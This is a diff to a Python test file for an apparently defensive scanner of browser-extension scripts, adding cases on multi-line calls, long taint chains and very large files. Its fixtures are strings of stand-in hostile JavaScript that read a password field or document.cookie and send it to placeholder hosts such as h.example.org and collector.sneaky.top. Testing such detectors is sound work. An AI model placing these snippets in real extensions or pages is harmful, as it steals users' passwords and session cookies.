@@ -33,6 +33,11 @@ CASES = {
     "hidden_content": {"content/main.js": 'var _0x12ab = "\\x61\\x62\\x63";\nvar _0xbeef = _0x12ab; var _0xcafe = _0xbeef; var _0xfeed = 1;\nconst p = document.querySelector("input[type=password]").value;\nfetch("https://h.example.org", { body: p });'},
     "two_hop": {"content/main.js": 'chrome.runtime.sendMessage(document.cookie);', "background.js": 'fetch("https://collector.sneaky.top/in", { method: "POST" });'},
     "commented": {"a.js": '// fetch("https://c.example.org")\n/* eval("x")\n*/\nconst t = "a // b";'},
+    "lines": {"a.js": 'fetch(\n  "https://multi.example.org/x",\n  { method: "POST",\n    body: document.cookie });\nconst q = x\n  .then(f);\nfetch("https://semi.example.top/x;y=" + document.cookie);'},
+    "one_line": {"a.js": "".join(f"f{i}(a,b);" if i % 2 else f"g{i}(h(x), y).z(" for i in range(2000))},
+    "links": {"a.js": "const k1 = 'https://deep';" + "".join(f"const k{i} = k{i - 1} + '{'.example' if i == 2 else '.org/' if i == 3 else 'x'}';" for i in range(2, 31)) + "fetch(k30);"
+              + "let t0 = document.cookie;" + "".join(f"let t{i} = t{i - 1};" for i in range(1, 151)) + 'sendBeacon("https://s.example.org", t150);'},
+    "big": {"a.js": "// filler\n" * 300_000 + 'fetch("https://late.example.org/x");'},
     "decoded": {"a.js": 'const a = atob("aGVsbG8=");\nconst b = "\\x68\\x69\\x21";\nconst bad = atob("!!");\nconst c = String.fromCharCode(72, 105);'},
 }
 MANIFESTS = {
@@ -46,8 +51,6 @@ MANIFESTS = {
 
 
 class CaseAudit(Audit):
-    large_file = 2 * 1024 * 1024
-
     def __init__(self, spark):
         files = [(case, path, code) for case, scripts in CASES.items() for path, code in scripts.items()]
         self.scripts = spark.createDataFrame(files, "ext_id string, path string, raw string")
@@ -165,6 +168,28 @@ def test_comments_are_removed_and_lines_kept(audit):
     assert row.code == '\n\n\nconst t = "a // b";'
 
 
+def test_calls_over_lines_and_cuts_in_literals(audit, contacts):
+    assert contacts["lines"] == {"multi.example.org", "semi.example.top"}
+    rows = {(r.line, r.callee): r.args for r in audit.calls.filter("ext_id = 'lines'").collect()}
+    assert rows[1, "fetch"].startswith(' "https://multi') or rows[1, "fetch"].strip().startswith('"https://multi')
+    assert rows[7, "fetch"] == '"https://semi.example.top/x;y=" + document.cookie'
+    assert {(r.line, r.source) for r in audit.flows.filter("ext_id = 'lines'").collect()} == {(1, "document.cookie"), (7, "document.cookie")}
+
+
+def test_arguments_are_linear_in_the_code(audit):
+    total = audit.calls.filter("ext_id = 'one_line'").agg(F.sum(F.length("args")), F.count("*")).first()
+    assert total[1] > 2000 and total[0] < 3 * len(CASES["one_line"]["a.js"])
+
+
+def test_long_chains(audit, contacts):
+    assert "deep.example.org" in contacts["links"]
+    assert {r.var: r.source for r in audit.tainted.filter("ext_id = 'links'").collect()}["t150"] == "document.cookie"
+
+
+def test_files_of_any_size_are_analysed(contacts, found):
+    assert contacts["big"] == {"late.example.org"} and ("risky_call", "fetch") in found["big"]
+
+
 def test_decoded_literals(audit):
     from packsift.operators.signals import decoded_literals
 
